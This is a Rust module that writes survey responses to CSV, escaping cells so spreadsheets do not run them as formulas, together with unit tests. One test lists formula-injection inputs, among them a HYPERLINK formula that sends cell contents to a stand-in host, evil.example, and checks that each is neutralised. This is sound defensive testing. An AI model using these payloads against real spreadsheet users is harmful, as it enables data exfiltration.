//! A day as CSV for a spreadsheet: numbers and times stay what they are, and no text runs as a formula.

use std::collections::BTreeSet;
use std::error::Error;
use std::fs::File;
use std::io::Write;
use std::path::Path;

use csv::Writer;
use model::sheet::harmless;
use serde_json::Value;

use super::What;
use super::columns::{ATTRIBUTES, Column, Kind, columns, joined};

/// Without it some spreadsheets take UTF-8 for something else.
const MARK: &[u8] = "\u{feff}".as_bytes();

pub(super) fn write(path: &Path, what: What, rows: &[Value]) -> Result<(), Box<dyn Error + Send + Sync>> {
    write_to(File::create(path)?, what, rows)
}

fn write_to(mut file: impl Write, what: What, rows: &[Value]) -> Result<(), Box<dyn Error + Send + Sync>> {
    file.write_all(MARK)?;
    let columns = columns(what);
    // Each attribute of the day has a column of its own.
    let named = |row: &Value| ATTRIBUTES.of(row).as_object().map(|all| all.keys().cloned().collect::<Vec<_>>());
    let attributes: BTreeSet<String> = rows.iter().filter_map(named).flatten().collect();
    let mut writer = Writer::from_writer(file);
    let names = columns.iter().map(|column| column.name.to_owned());
    writer.write_record(names.chain(attributes.iter().map(|name| format!("attributes.{name}"))))?;
    for row in rows {
        let own = columns.iter().map(|column| cell(column, row));
        let attributes = attributes.iter().map(|name| text(&ATTRIBUTES.of(row)[name.as_str()]));
        writer.write_record(own.chain(attributes))?;
    }
    writer.flush()?;
    Ok(())
}

fn cell(column: &Column, row: &Value) -> String {
    let value = column.of(row);
    match (column.kind, value) {
        (_, Value::Null) => String::new(),
        (Kind::List, _) => harmless(&joined(value).unwrap_or_default()).into_owned(),
        (Kind::Number | Kind::Flag, Value::Number(_) | Value::Bool(_)) => value.to_string(),
        _ => text(value),
    }
}

/// A text that nobody's spreadsheet runs.
fn text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => harmless(text).into_owned(),
        other => harmless(&other.to_string()).into_owned(),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn written(rows: &[Value]) -> Vec<Vec<String>> {
        let mut bytes = Vec::new();
        write_to(&mut bytes, What::Responses, rows).unwrap();
        let bytes = bytes.strip_prefix(MARK).expect("the mark comes first");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn nothing_in_a_file_runs_and_numbers_stay_numbers() {
        let wicked =
            ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")"];
        for comment in wicked {
            let row = json!({
                "answered_at": "2027-03-15T10:00:00Z", "score": 9, "comment": comment, "follow_up": true,
                "contact": { "email": "=a@example.com", "name": comment }, "owner": null,
                "attributes": { comment: comment },
            });
            let table = written(&[row]);
            for (name, cell) in table[0].iter().zip(&table[1]) {
                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
                assert!(!runs && !name.starts_with(['=', '+', '-', '@']), "{name}: {cell}");
            }
            assert_eq!(table[1][..2], ["2027-03-15T10:00:00Z", "9"]);
            assert_eq!(table[1][4], format!("'{comment}"));
            let follow_up = table[0].iter().position(|name| name == "follow_up").unwrap();
            assert_eq!(table[1][follow_up], "true");
        }
    }

    #[test]
    fn attributes_of_all_rows_have_columns() {
        let table = written(&[
            json!({ "score": 9, "attributes": { "region": "EMEA" } }),
            json!({ "score": 1, "attributes": { "plan": "-Gold" } }),
        ]);
        assert_eq!(table[0][table[0].len() - 2..], ["attributes.plan", "attributes.region"]);
        assert_eq!(table[1][table[0].len() - 2..], ["", "EMEA"]);
        assert_eq!(table[2][table[0].len() - 2..], ["'-Gold", ""]);
    }
}
